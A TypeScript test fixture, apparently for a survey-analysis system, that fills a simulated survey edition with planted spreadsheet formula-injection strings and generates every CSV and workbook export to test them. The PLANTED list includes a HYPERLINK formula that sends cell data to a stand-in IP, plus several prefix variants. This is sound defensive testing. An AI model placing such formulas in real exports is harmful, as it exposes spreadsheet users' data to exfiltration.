import { answersCsv } from '../../functions/analysis/answers/answers-csv.ts';
import { textsCsv } from '../../functions/analysis/answers/texts-csv.ts';
import { boardRow } from '../../functions/analysis/board/board-row.ts';
import { figuresTemplate } from '../../functions/analysis/figures/template.ts';
import { boardCsv, boardWorkbook } from '../../functions/analysis/files/board-file.ts';
import { crossWorkbook } from '../../functions/analysis/files/cross-workbook.ts';
import { kpiWorkbook } from '../../functions/analysis/files/kpi-workbook.ts';
import { simpleWorkbook } from '../../functions/analysis/files/simple-workbook.ts';
import { crossCsv, simpleCsv } from '../../functions/analysis/files/table-csv.ts';
import { kpiFileRows, kpiResultsCsv } from '../../functions/analysis/kpi-results-csv.ts';
import { marginsTemplate } from '../../functions/analysis/margins/template.ts';
import { editionTables } from '../../functions/analysis/tables/edition-tables.ts';
import { columnsCsv } from '../../functions/paper/firm-file/columns-csv.ts';
import { createRandom, drawFields } from '../../infra/simulate/draw-fields.ts';
import { kpiTallies } from '../../shared/kpi/kpi-counts.ts';
import { computeKpis } from '../../shared/kpi/kpi-results.ts';
import { startFold } from '../../shared/kpi/tally.ts';
import { compilePlan } from '../../shared/kpi/tally-plan.ts';
import { weighSample } from '../../shared/kpi/weights/weigh-sample.ts';
import { weightingSummary } from '../../shared/kpi/weights/weighting-summary.ts';
import { registerWords } from '../../shared/population/register-words.ts';
import type { ExportedAnswer } from '../../shared/storage/answer-parts-repository.ts';
import { readAnswers } from '../../shared/survey/read-answer.ts';
import type { Workbook } from '../../shared/workbook/workbook.ts';
import { cityNamed, definitions } from '../../surveys/index.ts';
import { sharesOf } from '../../surveys/sample-shares.ts';
import { kpiResults } from '../fixtures/kpi-results.ts';
import { marginOf } from '../fixtures/weighting.ts';

/** What somebody may write in the hope that a spreadsheet runs it. */
export const PLANTED = [
  '=HYPERLINK("http://203.0.113.1/?"&A1,"見本")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '＝1+1',
  '\r=1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
] as const;

const SURVEY = 'kiyose-2025-sample';
const PEOPLE = 400;

/** Every kind of file of tables, answers and texts, of an invented edition full of planted formulas. */
export function plantedFiles() {
  const definition = definitions.get(SURVEY);
  if (!definition?.weighting) throw new Error(`no edition ${SURVEY}`);
  const random = createRandom(11);
  const answers = Array.from({ length: PEOPLE }, (_, i): ExportedAnswer => {
    const { answers: given } = readAnswers(
      definition,
      drawFields(definition, sharesOf(SURVEY), random),
    );
    const planted = PLANTED[i];
    return {
      id: String(i),
      stream: i % 4 === 0 ? 'open' : 'sampled',
      expiresAt: new Date('2041-04-01T00:00:00+09:00'),
      channel: i % 3 === 0 ? 'paper' : 'web',
      answers: planted === undefined ? given : { ...given, opinion: planted },
    };
  });
  const fold = startFold(definition, compilePlan(definition));
  for (const answer of answers) fold.add(answer);
  const tally = fold.tally();
  const words = registerWords(definition);
  const [variables = []] = definition.weighting.margins;
  const cells = variables.reduce<Record<string, string>[]>(
    (all, name) =>
      all.flatMap((one) =>
        (words.categories.get(name) ?? []).map(([code]) => ({ ...one, [name]: code })),
      ),
    [{}],
  );
  const margins = [
    marginOf(
      [...variables],
      cells.map((cell, i) => [cell, 1000 + 10 * i]),
    ),
  ];
  const weights = weighSample(definition, tally, margins);
  const { indicators, targetBoxes = [] } = cityNamed();
  const results = kpiResults(
    SURVEY,
    { sampled: {}, open: {} },
    {
      final: true,
      counted: { sampled: 300, open: 100 },
      weighting: weightingSummary(weights),
      results: computeKpis(definition, indicators, kpiTallies(definition, tally), {
        tally,
        weights,
      }),
    },
  );
  const plan = { indicators, officialLines: new Map<string, number>() };
  const tables = editionTables(definition, { status: 'counted', results, tally, margins });
  const stamp = { subject: 'mihon', name: '見本', at: '2026-11-05T03:00:00Z' };
  const board = indicators.map((indicator, i) =>
    boardRow(indicator, {
      editions: [{ definition, results }],
      records: [
        {
          figure: {
            indicator: indicator.code,
            number: 1,
            value: 12.5 + i,
            gap: null,
            at: '2026年4月',
            department: PLANTED[i % PLANTED.length] ?? '',
            source: PLANTED[(i + 1) % PLANTED.length] ?? '',
            n: null,
            everyone: false,
            note: '',
            entered: stamp,
          },
          decision: {
            indicator: indicator.code,
            number: 1,
            decision: 'approved',
            reason: '',
            deputyship: null,
            decided: stamp,
          },
        },
      ],
      official: undefined,
      assignment: undefined,
      targetBoxes,
    }),
  );
  async function* parts() {
    yield answers;
  }
  const others = indicators.filter(({ kind }) => kind !== 'survey_percent');
  const csv: Readonly<Record<string, string | AsyncIterable<string>>> = {
    '10-kpi.csv': kpiResultsCsv(results, definition, plan),
    '20-simple.csv': simpleCsv(tables),
    '30-cross.csv': crossCsv(tables),
    '50-answers.csv': answersCsv(definition, parts(), PEOPLE),
    '51-free-text.csv': textsCsv(definition, parts, PLANTED.length),
    '60-indicators.csv': boardCsv(board),
    'figures-template.csv': figuresTemplate(others),
    'population-template.csv': marginsTemplate(definition.weighting.margins, words),
    'firm-columns.csv': columnsCsv(definition),
  };
  const workbooks: Record<string, Workbook> = {
    '10-kpi.xlsx': kpiWorkbook({ definition, results }, kpiFileRows(results, definition, plan)),
    '60-indicators.xlsx': boardWorkbook(board),
  };
  for (const shown of tables.streams) {
    workbooks[`21-simple-${shown.stream}.xlsx`] = simpleWorkbook(tables, shown);
    workbooks[`31-cross-${shown.stream}.xlsx`] = crossWorkbook(tables, shown);
  }
  return { csv, workbooks };
}
